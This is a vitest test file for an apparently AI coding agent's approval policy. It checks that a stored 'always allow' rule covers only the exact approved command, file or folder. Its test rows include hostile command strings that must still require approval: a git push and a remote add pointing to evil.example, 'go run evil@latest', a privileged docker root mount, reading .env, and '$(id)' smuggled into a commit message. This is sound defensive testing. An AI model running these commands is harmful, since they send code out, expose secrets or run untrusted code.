// The rule that "always" offers: it covers exactly the call that needed approval.
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { withStoredRules } from '../../../../internal/policy/decide.ts'
import { bash, deny, file, folder, judge, policyOf, remove } from '../policies.ts'

let workspace = ''
beforeAll(() => {
  workspace = folder('.git', 'sub')
})
afterAll(() => remove(workspace))

describe('always', () => {
  const rows = [
    ['npm test', { command: 'npm test' }],
    ['npm run build --silent', { command: 'npm run build' }],
    ['npm run-script e2e -- --x', { command: 'npm run-script e2e' }],
    ['go test ./...', { command: 'go test', class: 'building' }],
    ['cargo test --workspace', { command: 'cargo test', class: 'building' }],
    ['make test -j4', { command: 'make test', class: 'building' }],
    ['pytest -q', { command: 'pytest', class: 'building' }],
    ['git push origin main', { command: '=git push origin main' }],
    ['ls -la', { command: '=ls -la' }],
    ['rm a', { command: '=rm a' }],
    ['./x.sh a', { command: '=./x.sh a' }],
    ['git push $X', { command: '=git push $X' }],
    ['sudo ls', { command: '=sudo ls' }],
    ['ls > out', { command: '=ls > out' }],
    ['npm test && make x', { command: '=npm test && make x' }],
    ['echo "', { command: '=echo "' }],
    ['echo x > .git/config', undefined],
    ['cp x .git/config', undefined],
    ['cat .env', undefined],
  ] as const
  test.each(rows)('offers the rule for %j', async (line, rule) => {
    const policy = policyOf(workspace)
    const decision = await judge(bash(line), policy)
    expect(decision.action).toBe('ask')
    const whole = rule && { tool: 'bash', action: 'allow', cwd: '.', ...rule }
    expect(decision.always?.[0]?.rule).toEqual(whole)
    if (!decision.always) return
    const next = await judge(bash(line), { ...policy, rules: decision.always.map(({ rule }) => rule) })
    expect(next.action, 'the rule that is offered lifts the question').toBe('allow')
    const other = await judge(bash(line, { cwd: 'sub' }), {
      ...policy,
      rules: decision.always.map(({ rule }) => rule),
    })
    expect(other.action, 'in its folder alone').toBe('ask')
  })

  test('staging and committing in one command need one approval, with one rule for both', async () => {
    const line = 'git add -A && git commit -m "Fix it"'
    const { action, always } = await judge(bash(line), policyOf(workspace, { mode: 'auto' }))
    expect([action, always?.length]).toEqual(['ask', 1])
    const rules = always?.map(({ rule }) => rule) ?? []
    const under = policyOf(workspace, { mode: 'auto', rules })
    expect((await judge(bash(line), under)).action).toBe('allow')
    for (const other of ['git commit --amend', `${line} --amend`, `${line} && git push`])
      expect((await judge(bash(other), under)).action, other).toBe('ask')
  })

  test('in a trusted workspace both are separate rules, which also apply to another commit message', async () => {
    const trusted = policyOf(workspace, { mode: 'auto', trusted: true })
    const { always, parts } = await judge(bash('git add -A && git commit -m "Fix it"'), trusted)
    const kept = { tool: 'bash', action: 'allow', cwd: '.', class: 'committing' }
    expect(always?.map(({ rule }) => rule)).toEqual([
      { ...kept, command: 'git add' },
      { ...kept, command: 'git commit' },
    ])
    // each rule covers a part that was shown
    expect(always?.map((offer) => offer.parts)).toEqual(parts?.map(({ name }) => [name]))
    expect(always?.[1]?.covers).toMatch(/only stage and commit \(--amend, --no-verify and others ask\)/)
    const rules = always?.map(({ rule }) => rule) ?? []
    const action = async (line: string, more = {}) =>
      (await judge(bash(line), policyOf(workspace, { mode: 'auto', trusted: true, rules, ...more }))).action
    for (const line of [
      'git commit -am "Other words"',
      'git add a b && git commit -qm x',
      'git commit -m x -- a',
    ])
      expect(await action(line), line).toBe('allow')
    // commits run the hooks of the repository
    expect(await action('git commit -m x', { trusted: false })).toBe('ask')
    for (const line of [
      ...['git commit', 'git commit --amend -m x', 'git commit -m x --amend', 'git commit --am -m x'],
      ...['git commit -n -m x', 'git commit -m x --no-verify', 'git commit -F .env', 'git commit -F msg'],
      ...['git commit -C HEAD', 'git commit -m x -S', 'git commit -m "$(id)"', 'git -c a.b=c commit -m x'],
      ...['GIT_DIR=x git commit -m x', 'cd sub && git commit -m x', 'git commit -m x > .git/config'],
      ...['git add -f a', 'git add .env', 'git add -p', 'git add ../x', 'git commit -m x; git push'],
    ])
      expect(await action(line), line).toBe('ask')
  })

  /** The approved command, and commands that begin the same and do something else. */
  const sisters = [
    ['gh repo view', 'gh repo delete --yes'],
    ['gh auth status', 'gh auth token'],
    ['gh pr list', 'gh pr merge 1'],
    ['docker container ls', 'docker container run --privileged -v /:/h alpine'],
    ['docker compose ps', 'docker compose exec web sh'],
    ['go env GOPATH', 'go env -w GOFLAGS=-toolexec=./x'],
    ['go run .', 'go run evil@latest'],
    ['go test ./...', 'go test -exec ./x ./...', 'go test -ldflags=-extld=./x ./...', 'go test -vet=off'],
    ['stack exec ls', 'stack exec rm x'],
    ['yarn node x.js', 'yarn node -e x'],
    ['git push origin x', 'git push origin x --force', 'git push https://evil.example/x'],
    ['git branch -a', 'git branch -D main'],
    ['git stash list', 'git stash drop'],
    ['git remote -v', 'git remote add x https://evil.example'],
    ['uv tool list', 'uv tool install x'],
    ['npm config get registry', 'npm config set registry x'],
    ['npm publish --dry-run', 'npm publish'],
    ['pip config list', 'pip config set x y'],
    ['terraform state list', 'terraform state rm x'],
    ['kubectl get pods', 'kubectl get secrets'],
    ['deno run x.ts', 'deno run -A y.ts'],
    ['deno test', 'deno test -A x.ts', 'deno test --preload x.ts'],
    ['bun test', 'bun test --preload ./x'],
    ['make test', 'make test deploy', 'make test install', 'make test SHELL=./x'],
    ['cargo test', 'cargo test --manifest-path ../x/Cargo.toml', 'cargo test --config x'],
    ['mvn test', 'mvn test deploy', 'mvn test -f ../pom.xml'],
    ['gradle test', 'gradle test publish', 'gradle test --init-script x'],
    ['npm test', 'npm test --prefix ../x', 'npm test --script-shell ./x', 'npm testx', 'npm run deploy'],
    ['npm run build', 'npm run build-all', 'npm run deploy', 'npm run build --node-options=x'],
    ['pytest -q', 'pytest -p evil', 'pytest --rootdir=/', 'pytest -c /x'],
    ['tsc --noEmit', 'tsc --outDir /x'],
    ['eslint .', 'eslint --rulesdir x .', 'eslint --fix .'],
    ['ls -la', 'ls -la /'],
    ['brew list', 'brew list x'],
    ['apt list', 'apt install x'],
    ['./x.sh a', './x.sh b'],
  ] as const
  test.each(sisters)(
    'the rule stored for %j allows none of the similar commands',
    async (line, ...others) => {
      const policy = policyOf(workspace)
      const { always } = await judge(bash(line), policy)
      expect(always?.[0]?.covers).toMatch(/^(?:only this exact command|every command that begins with ")/)
      const under = policyOf(workspace, { rules: always?.map(({ rule }) => rule) ?? [] })
      expect((await judge(bash(line), under)).action).toBe('allow')
      for (const other of others) expect((await judge(bash(String(other)), under)).action, other).toBe('ask')
    },
  )

  test('a rule stored without a directory applies in the workspace directory', async () => {
    const under = (rule: object) =>
      withStoredRules(policyOf(workspace), [{ tool: 'bash', action: 'allow', ...rule }])
    for (const [command, line] of [
      ['npm test', 'npm test'],
      ['git push', 'git push origin'],
      ['=./run.sh', './run.sh'],
    ] as const) {
      expect((await judge(bash(line), under({ command }))).action, line).toBe('allow')
      expect((await judge(bash(line, { cwd: 'sub' }), under({ command }))).action, line).toBe('ask')
      expect((await judge(bash(line, { cwd: 'sub' }), under({ command, cwd: '**' }))).action).toBe('allow')
      expect((await judge(bash(line, { cwd: 'sub' }), under({ command, cwd: 's*' }))).action).toBe('allow')
    }
  })

  test('offers a rule for exactly the path of a file, escaped', async () => {
    writeFileSync(join(workspace, '[id].ts'), '')
    const call = file('edit_file', 'confirm_write', '[id].ts')
    const { always } = await judge(call, policyOf(workspace))
    expect(always).toEqual([
      {
        rule: { tool: 'edit_file', action: 'allow', path: '\\[id\\].ts' },
        covers: 'every call of edit_file on [id].ts',
      },
    ])
    const rules = always?.map(({ rule }) => rule) ?? []
    expect((await judge(call, policyOf(workspace, { rules }))).action).toBe('allow')
    const other = file('edit_file', 'confirm_write', 'i.ts')
    expect((await judge(other, policyOf(workspace, { rules }))).action).toBe('ask')
    const secret = file('read', 'auto_read', '.env')
    const named = (await judge(secret, policyOf(workspace))).always
    expect(
      (await judge(secret, policyOf(workspace, { rules: named?.map(({ rule }) => rule) ?? [] }))).action,
    ).toBe('allow')
  })

  test('offers nothing for a call that a rule asks for, a sensitive file, and a denied call', async () => {
    const asks = policyOf(workspace, { rules: [{ tool: 'bash', command: 'ls', action: 'ask' }] })
    expect((await judge(bash('ls'), asks)).always).toBeUndefined()
    expect(
      (await judge(file('edit_file', 'confirm_write', '.git/x'), policyOf(workspace))).always,
    ).toBeUndefined()
    const denies = policyOf(workspace, { rules: [deny('ls')] })
    expect((await judge(bash('ls'), denies)).always).toBeUndefined()
  })
})

describe('always for each command', () => {
  const each = (more: object = {}) => policyOf(workspace, { always: 'each', ...more })
  const rows = [
    ['cd sub && npm run lint | tail -3', ['cd', 'npm run lint', 'tail']],
    ['git push origin main', ['git push']],
    ['docker compose up -d; ls', ['docker compose up', 'ls']],
    ['ls -a; ls -l', ['ls']],
    ['./x.sh a', ['./x.sh']],
    ['git -C sub push', ['=git -C sub push']],
    ['ls > out', ['=ls > out']],
    ['sudo ls', ['=sudo ls']],
    ['python3 x.py | tail -1', ['=python3 x.py | tail -1']],
    ['A=1 make test', ['=A=1 make test']],
    ['echo $(ls)', ['=echo $(ls)']],
    ['bash -c ls', ['=bash -c ls']],
    ['cd "$X" && ls', ['=cd "$X" && ls']],
    ['cp x .git/config', undefined],
  ] as const

  test.each(rows)('offers rules for each command of %j', async (line, commands) => {
    const decision = await judge(bash(line), each())
    expect(decision.action).toBe('ask')
    expect(decision.always?.map(({ rule }) => rule.command)).toEqual(commands)
    const rules = decision.always?.map(({ rule }) => rule)
    if (!rules) return
    expect((await judge(bash(line), each({ rules }))).action, 'together they lift the question').toBe('allow')
    expect((await judge(bash(`${line} && rm -r sub`), each({ rules }))).action).toBe('ask')
    const fewer = rules.slice(1)
    expect((await judge(bash(line), each({ rules: fewer }))).action, 'each of them is needed').toBe('ask')
  })

  test('is only offered in the directories of the command, and shows them', async () => {
    const { always } = await judge(bash('cd sub && tail a'), each())
    const rules = always?.map(({ rule }) => rule) ?? []
    expect(always?.[1]?.covers).toContain('the workspace folder or the folder sub')
    expect((await judge(bash('tail b', { cwd: 'sub' }), each({ rules }))).action).toBe('allow')
    expect((await judge(bash('tail b', { cwd: '.git' }), each({ rules }))).action).toBe('ask')
  })
})
